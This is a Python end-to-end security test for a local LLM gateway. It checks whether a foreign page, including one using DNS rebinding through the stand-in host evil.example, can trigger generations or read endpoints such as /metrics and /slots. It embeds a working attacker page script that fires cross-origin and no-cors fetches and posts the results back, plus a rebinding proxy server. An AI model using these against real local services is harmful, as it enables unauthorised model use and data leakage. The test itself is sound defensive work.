"""Finding S4 in a real browser: requests of a web page to a gateway and an engine on the same machine."""

import json
import os
import re
from collections.abc import Sequence
from functools import partial

import attrs
import pytest
import trio

from e2e.up_process import DEMO, FREE_PORTS, command_line, engines_in, open_up
from llmkube.base.http.client import open_http_client
from llmkube.base.http.message import Headers
from security.chromium import INSTALL_HINT, find_chromium, show

pytestmark = [pytest.mark.e2e, pytest.mark.ci]

EVIL = "evil.example"
READ = ("/v1/models", "/slots", "/props", "/metrics")
GENERATE = ("/v1/chat/completions", "/v1/completions", "/completion")
ASK = json.dumps({"model": "demo", "max_tokens": 1, "prompt": "x", "messages": [{"role": "user", "content": "x"}]})

# Each request is tried as pages can: to read an answer, and to trigger a generation without reading it.
PAGE = """HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<script>
const statuses = {}, [bases, read, generate, ask, report] = %s
const attempt = async (name, ...request) => {
  try { const answer = await fetch(...request); statuses[name] = answer.type == 'opaque' ? 'sent' : answer.status }
  catch (error) { statuses[name] = 'blocked' }
}
(async () => {
  for (const base of bases) {
    for (const path of read) await attempt(`GET ${base}${path}`, base + path)
    for (const path of generate) {
      await attempt(`POST ${base}${path}`, base + path, {method: 'POST', body: ask})
      await attempt(`BLIND ${base}${path}`, base + path, {method: 'POST', mode: 'no-cors', body: ask})
    }
  }
  await fetch(report, {method: 'POST', mode: 'no-cors', body: JSON.stringify(statuses)})
})()
</script>"""


@attrs.define(eq=False)
class Front:
    """The attacker's server, and a proxy to the gateway after DNS rebinding.

    Attributes:
        gateway: Port to which all requests except those for the page are forwarded.
        bases: Base URLs that the page attacks.
        port: Port of the attacker's server.
        report: Results that the page reported.
    """

    gateway: int
    bases: Sequence[str] = ()
    port: int = 0
    report: dict[str, int | str] = attrs.field(factory=dict)
    reported: trio.Event = attrs.field(factory=trio.Event)

    async def serve(self, stream: trio.SocketStream) -> None:
        async with stream:
            first = await stream.receive_some()
            if first.startswith(b"GET /attack "):
                parameters = [self.bases, READ, GENERATE, ASK, f"http://127.0.0.1:{self.port}/report"]
                await stream.send_all((PAGE % json.dumps(parameters)).encode())
            elif first.startswith(b"POST /report "):
                head, _, body = first.partition(b"\r\n\r\n")
                length = int(re.search(rb"(?i)content-length: (\d+)", head)[1])
                while len(body) < length:
                    body += await stream.receive_some()
                self.report = json.loads(body)
                self.reported.set()
            else:
                await self._pass_on(first, stream)

    async def _pass_on(self, first: bytes, client: trio.SocketStream) -> None:
        async def pump(source: trio.SocketStream, to: trio.SocketStream) -> None:
            try:
                async for piece in source:
                    await to.send_all(piece)
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                pass
            nursery.cancel_scope.cancel()

        async with await trio.open_tcp_stream("127.0.0.1", self.gateway) as server, trio.open_nursery() as nursery:
            await server.send_all(first)
            nursery.start_soon(pump, client, server)
            nursery.start_soon(pump, server, client)


@pytest.fixture(scope="module")
def chromium():
    found = find_chromium()
    if found is None:
        (pytest.fail if os.environ.get("CI") else pytest.skip)(INSTALL_HINT)
    return found


async def generated_tokens(engine, key):
    """Return the number of tokens that an engine has generated."""
    async with open_http_client() as http:
        headers = Headers.of({"Authorization": f"Bearer {key}"})
        answer = await http.request("GET", f"{engine}/metrics", headers=headers)
    return float(re.search(rb"^llamacpp:tokens_predicted_total (\S+)", answer.body, re.MULTILINE)[1])


async def test_s4_only_pages_of_this_machine_reach_a_model(tmp_path, chromium):
    """A foreign page, even after DNS rebinding, generates nothing and reads only what needs no key."""
    state = tmp_path / "state"
    async with open_up(tmp_path, "--state-dir", str(state), *FREE_PORTS, "-f", str(DEMO)) as up:
        _, gateway, _ = await up.urls()
        await up.wait_for("out", r"default/demo: Ready\n")
        (process,) = engines_in(state)
        words = command_line(process)
        engine = f"http://127.0.0.1:{words[words.index('--port') + 1]}"
        (key,) = (path.read_text().split()[0] for path in state.rglob("keys/*"))
        port = int(gateway.rpartition(":")[2])
        front = Front(port)

        async def visit(url, names="", bases=(gateway, engine)):
            """Show the page at `url`; return its report and the number of tokens generated meanwhile."""
            before = await generated_tokens(engine, key)
            front.bases, front.reported = bases, trio.Event()
            async with trio.open_nursery() as shown:
                shown.start_soon(partial(show, chromium, url, tmp_path / "profile", names=names))
                with trio.fail_after(120):
                    await front.reported.wait()
                shown.cancel_scope.cancel()
            return front.report, await generated_tokens(engine, key) - before

        async with trio.open_nursery() as nursery:
            listeners = await nursery.start(partial(trio.serve_tcp, front.serve, 0, host="127.0.0.1"))
            front.port = listeners[0].socket.getsockname()[1]

            near, tokens = await visit(f"http://localhost:{front.port}/attack")
            assert tokens > 0, f"the page's requests never arrived, so this test would see no attack: {near}"
            assert {near[f"GET {engine}{path}"] for path in READ} <= {401, "blocked"}

            far, tokens = await visit(f"http://{EVIL}/attack", f"MAP {EVIL}:80 127.0.0.1:{front.port}")
            assert tokens == 0
            assert {result for name, result in far.items() if not name.startswith("BLIND")} == {"blocked"}

            moved = f"http://{EVIL}:{port}"
            rules = f"MAP {EVIL}:{port} 127.0.0.1:{front.port}"
            rebound, tokens = await visit(f"{moved}/attack", rules, (moved, engine))
            assert tokens == 0
            assert {rebound[f"POST {moved}{path}"] for path in GENERATE} <= {403, 404}
            # docs/reference/security.md: it can read the list of models
            assert rebound[f"GET {moved}/v1/models"] == 200
            assert {rebound[f"GET {moved}{path}"] for path in READ[1:]} == {403}
            nursery.cancel_scope.cancel()
